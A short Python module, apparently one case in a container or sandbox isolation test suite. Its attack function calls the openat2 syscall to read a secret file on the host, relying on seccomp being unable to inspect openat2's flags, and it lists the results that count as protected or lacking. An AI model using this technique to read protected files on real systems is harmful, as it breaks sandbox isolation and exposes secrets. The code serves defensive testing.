"""Opens a file of the host's by openat2, whose flags no filter can see."""

FULL = "ENOSYS", "seccomp"
LACKING = {"EPERM": "openat2"}


def attack():
    how = struct.pack("3Q", os.O_RDONLY, 0, 0)
    return os.read(syscall("openat2", -100, HOST["secret"].encode(), how, len(how)), 100)
